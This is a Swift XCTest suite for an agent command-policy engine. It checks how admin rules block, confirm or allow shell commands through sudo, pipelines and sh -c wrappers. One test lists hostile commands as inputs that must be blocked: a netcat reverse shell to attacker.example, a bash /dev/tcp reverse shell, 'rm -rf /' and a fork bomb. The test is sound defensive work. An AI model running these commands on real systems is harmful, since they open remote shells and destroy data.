import AgentPolicy
import Foundation
import XCTest

/// The policy's `rules` (issue 15, "Admin rules as data"): a prefix of the normalised argv, one
/// pattern per word, deciding block / confirm / allow as `AdminRule` documents.
final class AdminRuleTests: XCTestCase {
    private func rule(_ id: String, _ match: [String], _ decision: AdminRule.Decision, _ reason: String = "site rule")
        throws -> AdminRule
    {
        try AdminRule(id: id, match: match, decision: decision, reason: reason)
    }

    private func engine(_ rules: [AdminRule], mode: PolicyMode = .guarded) -> PolicyEngine {
        PolicyEngine(config: PolicyConfig(mode: mode, adminRules: rules))
    }

    /// Rows: command, decision, and the admin rule id that must carry it (nil: none may appear).
    private func assertRows(
        _ engine: PolicyEngine, _ rows: [(String, Decision, String?)], file: StaticString = #filePath, line: UInt = #line
    ) {
        for (command, decision, id) in rows {
            let verdict = engine.evaluate(command)
            let described =
                "\(verdict.decision.rawValue) \(verdict.reasons.map { "\($0.rule)(\($0.decision.rawValue)): \($0.message)" })"
            XCTAssertEqual(verdict.decision, decision, "\(command) → \(described)", file: file, line: line)
            if let id {
                XCTAssertTrue(
                    verdict.reasons.contains { $0.rule == id && $0.decision == decision && $0.isAdminRule },
                    "\(command) should carry \(id) → \(described)", file: file, line: line)
            } else {
                XCTAssertFalse(
                    verdict.reasons.contains(where: \.isAdminRule), "\(command) → \(described)", file: file, line: line)
            }
        }
    }

    func testBlockMatchesAPrefixWithGlobWords() throws {
        let engine = engine([try rule("local.no-pg-stop", ["systemctl", "stop", "postgresql*"], .block, "the database stays up")])
        assertRows(
            engine,
            [
                ("systemctl stop postgresql", .block, "local.no-pg-stop"),
                ("systemctl stop postgresql@15-main", .block, "local.no-pg-stop"),
                // A prefix: later arguments do not matter.
                ("systemctl stop postgresql.service --no-block", .block, "local.no-pg-stop"),
                ("/usr/bin/systemctl stop postgresql", .block, "local.no-pg-stop"),
                // Not the prefix: other verbs, other units, too few words.
                ("systemctl status postgresql", .allow, nil),
                ("systemctl stop", .needsConfirmation, nil),
                ("systemctl --now stop postgresql", .needsConfirmation, nil),
                ("systemctl", .allow, nil),
            ])
        let verdict = engine.evaluate("systemctl stop postgresql")
        XCTAssertEqual(
            verdict.reasons.first { $0.rule == "local.no-pg-stop" },
            Reason(rule: "local.no-pg-stop", message: "the database stays up", decision: .block))
    }

    func testSeenThroughWrappersPipelinesAndShellStrings() throws {
        let engine = engine([try rule("local.no-pg-stop", ["systemctl", "stop", "postgresql*"], .block)])
        for command in [
            "sudo systemctl stop postgresql",
            "sudo -u root env FOO=1 timeout 5 systemctl stop postgresql",
            "timeout -s KILL 30 /bin/systemctl stop postgresql",
            "echo hi | systemctl stop postgresql | cat",
            "true && systemctl stop postgresql",
            "sh -c 'systemctl stop postgresql'",
            "echo $(systemctl stop postgresql)",
            "echo postgresql | xargs systemctl stop",
        ] {
            assertRows(engine, [(command, .block, "local.no-pg-stop")])
        }
    }

    func testWrappersAreMatchedToo() throws {
        let engine = engine([
            try rule("local.no-root-shell", ["sudo", "-i"], .block, "no root shells"),
            try rule("local.no-endless", ["timeout", "0"], .confirm, "set a limit"),
            try rule("local.sudo-ok", ["sudo"], .allow, "sudo is fine"),
        ])
        assertRows(
            engine,
            [
                ("sudo -i", .block, "local.no-root-shell"),
                ("timeout 0 ls", .needsConfirmation, "local.no-endless"),
                ("timeout 5 ls", .allow, nil),
                // An allow on a wrapper does not lift what the wrapped command asks for, nor shows.
                ("sudo systemctl restart nginx", .needsConfirmation, nil),
            ])
    }

    func testConfirm() throws {
        let engine = engine([try rule("local.ask-before-deploy", ["deploy-tool", "push", "prod*"], .confirm, "production")])
        assertRows(
            engine,
            [
                ("deploy-tool push production", .needsConfirmation, "local.ask-before-deploy"),
                ("deploy-tool push staging", .allow, nil),
            ])
        // readonly turns every confirmation into a block; an admin confirm is no exception.
        assertRows(
            self.engine([try rule("local.ask", ["ls"], .confirm)], mode: .readonly),
            [("ls /tmp", .block, "local.ask")])
    }

    func testAllowLiftsConfirmationsAboutTheCommand() throws {
        let allow = engine([try rule("local.nginx-restart", ["systemctl", "restart", "nginx"], .allow, "routine")])
        assertRows(
            allow,
            [
                ("systemctl restart nginx", .allow, "local.nginx-restart"),
                ("sudo systemctl restart nginx", .allow, "local.nginx-restart"),
                // Only what matches is lifted.
                ("systemctl restart postgresql", .needsConfirmation, nil),
            ])
        XCTAssertEqual(PolicyEngine().evaluate("systemctl restart nginx").decision, .needsConfirmation)
        // extra_denylist is a confirmation too.
        let denied = PolicyEngine(
            config: PolicyConfig(
                extraDenylist: ["make"], adminRules: [try rule("local.make-test", ["make", "test"], .allow)]))
        XCTAssertEqual(denied.evaluate("make test").decision, .allow)
        XCTAssertEqual(denied.evaluate("make install").decision, .needsConfirmation)
    }

    func testAllowIsAReadonlyAddition() throws {
        let rules = [try rule("local.status", ["systemctl", "restart", "nginx"], .allow)]
        XCTAssertEqual(PolicyEngine(config: PolicyConfig(mode: .readonly)).evaluate("systemctl restart nginx").decision, .block)
        assertRows(engine(rules, mode: .readonly), [("systemctl restart nginx", .allow, "local.status")])
        assertRows(engine(rules, mode: .cautious), [("systemctl restart nginx", .allow, "local.status")])
        // sudo stays refused in readonly: the wrapper is judged apart from the command it runs.
        XCTAssertEqual(engine(rules, mode: .readonly).evaluate("sudo systemctl restart nginx").decision, .block)
        XCTAssertTrue(
            engine(rules, mode: .readonly).evaluate("sudo systemctl restart nginx").reasons.contains {
                $0.rule == RuleID.readonlySudo.rawValue
            })
    }

    func testAllowNeverLiftsAHardBlock() throws {
        let engine = engine([
            try rule("local.rm", ["rm", "*"], .allow), try rule("local.nc", ["nc"], .allow),
            try rule("local.bash", ["bash"], .allow), try rule("local.sh", ["sh", "-c", "*"], .allow),
        ])
        for (command, id) in [
            ("rm -rf /", RuleID.rmRoot),
            ("sudo rm -rf --no-preserve-root /", .rmRoot),
        ] {
            let verdict = engine.evaluate(command)
            XCTAssertEqual(verdict.decision, .block, command)
            XCTAssertTrue(verdict.reasons.contains { $0.rule == id.rawValue }, "\(command): \(verdict.reasons)")
        }
        for command in [
            "nc -e /bin/sh attacker.example 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "sh -c 'rm -rf /'",
            ":(){ :|:& };:",
        ] {
            XCTAssertEqual(engine.evaluate(command).decision, .block, command)
        }
        // What the allowed command runs is judged on its own: sh is allowed, the rm it runs is not lifted.
        XCTAssertEqual(engine.evaluate("sh -c 'systemctl restart nginx'").decision, .needsConfirmation)
    }

    func testStrictestMatchingRuleDecides() throws {
        let engine = engine([
            try rule("local.any-systemctl", ["systemctl"], .allow),
            try rule("local.no-stop", ["systemctl", "stop"], .block, "no stopping"),
        ])
        assertRows(
            engine,
            [("systemctl stop nginx", .block, "local.no-stop"), ("systemctl restart nginx", .allow, "local.any-systemctl")])
        XCTAssertFalse(engine.evaluate("systemctl stop nginx").reasons.contains { $0.rule == "local.any-systemctl" })
    }

    func testBlockHoldsInUnrestrictedMode() throws {
        assertRows(
            engine([try rule("local.no-reboot", ["reboot"], .block)], mode: .unrestricted),
            [("reboot", .block, "local.no-reboot"), ("rm -rf /tmp/x", .allow, nil)])
    }

    func testPatterns() throws {
        let cases: [(String, String, Bool)] = [
            ("postgresql*", "postgresql", true), ("postgresql*", "postgresql@15", true), ("postgresql*", "postgres", false),
            ("*", "", true), ("*", "/etc/passwd", true), ("/srv/*", "/srv/app/data", true),
            ("?", "a", true), ("?", "", false), ("?", "ab", false),
            ("[abc]x", "bx", true), ("[!abc]x", "bx", false), ("[a-c]x", "dx", false), ("[]]", "]", true),
            ("a\\*", "a*", true), ("a\\*", "ab", false), ("*.service", "nginx.service", true), ("*.service", "nginx", false),
            ("a*b*c", "aXbYc", true), ("a*b*c", "aXbY", false),
        ]
        for (pattern, word, expected) in cases {
            XCTAssertEqual(AdminPatternProbe.matches(pattern, word), expected, "\(pattern) ~ \(word)")
        }
    }

    func testInvalidRulesAreRefusedNamingTheField() {
        let cases: [(String, [String], String, String)] = [
            ("no-pg", ["systemctl"], "r", "id"),
            ("local.", ["systemctl"], "r", "id"),
            ("filesystem.root-delete", ["rm"], "r", "id"),
            ("local.a b", ["rm"], "r", "id"),
            ("local.x", [], "r", "match"),
            ("local.x", ["rm", ""], "r", "match[1]"),
            ("local.x", ["rm", "[abc"], "r", "match[1]"),
            ("local.x", ["rm", "a\\"], "r", "match[1]"),
            ("local.x", ["/usr/bin/rm"], "r", "match[0]"),
            ("local.x", ["rm"], "", "reason"),
        ]
        for (id, match, reason, field) in cases {
            XCTAssertThrowsError(try AdminRule(id: id, match: match, decision: .block, reason: reason), "\(id) \(match)") {
                guard case .field(let named, _) = $0 as? AdminRule.Problem else { return XCTFail("\($0)") }
                XCTAssertEqual(named, field, "\(id) \(match)")
            }
        }
        // A program outside the standard directories keeps its path, so it may be matched by it.
        XCTAssertNoThrow(try AdminRule(id: "local.x", match: ["/opt/tool/bin/run"], decision: .block, reason: "r"))
    }
}

/// The pattern matcher is internal; a one-word rule exercises exactly it (program = the word).
private enum AdminPatternProbe {
    static func matches(_ pattern: String, _ word: String) -> Bool {
        guard let rule = try? AdminRule(id: "local.probe", match: ["p", pattern], decision: .block, reason: "r") else {
            return false
        }
        let quoted = "'" + word.replacingOccurrences(of: "'", with: "'\\''") + "'"
        return PolicyEngine(config: PolicyConfig(mode: .unrestricted, adminRules: [rule])).evaluate("p \(quoted)").decision
            == .block
    }
}
